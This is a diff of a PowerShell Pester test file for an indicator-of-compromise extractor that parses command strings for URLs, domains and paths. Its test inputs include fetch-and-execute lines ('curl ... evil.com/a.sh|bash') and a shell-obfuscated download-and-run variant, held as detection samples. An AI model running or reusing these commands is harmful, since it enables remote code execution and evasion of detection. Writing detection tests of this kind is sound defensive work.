@@ -5,11 +5,20 @@ BeforeAll {
 Describe 'Find-B64Ioc' {
     Context 'plain strings' {
         It 'turns each string into an event with its indicators' {
-            $events = 'curl -s http://evil.com/a.sh|bash', 'chmod +x install.sh; ./install.sh' | Find-B64Ioc
+            $events = 'curl -s http://evil.com/a.sh|bash', 'chmod +x install.sh; ./install.sh; /tmp/.x/run' | Find-B64Ioc
             $events | Should -HaveCount 2
             $events[0] | Should -BeOfType ([B64Hunt.Model.CommandEvent])
             ($events[0].Iocs | ForEach-Object { "$($_.Type):$($_.Normalized)" }) | Should -Be @('url:http://evil.com/a.sh', 'dns:evil.com')
-            ($events[1].Iocs | ForEach-Object { "$($_.Type):$($_.Normalized)" }) | Should -Be @('linux_path:./install.sh')
+            # Absolute paths only: ./install.sh depends on the working folder.
+            ($events[1].Iocs | ForEach-Object { "$($_.Type):$($_.Normalized)" }) | Should -Be @('linux_path:/tmp/.x/run')
+        }
+
+        It 'reads through shell obfuscation and says which indicators only that shows' {
+            $event = 'c\u\r\l -s http://ex\am\pl\e.t\op/x.sh | b""ash' | Find-B64Ioc
+            $event.NormalizedCommand | Should -Be 'curl -s http://example.top/x.sh | bash'
+            ($event.Iocs | ForEach-Object { "$($_.Type):$($_.Normalized):$($_.Deobfuscated)" }) |
+                Should -Be @('url:http://example.top/x.sh:True', 'dns:example.top:True')
+            ($event | Format-List | Out-String) | Should -Match 'NormalizedCommand : curl -s http://example.top/x.sh \| bash'
         }
 
         It 'reads lines of a file with -Expand' {
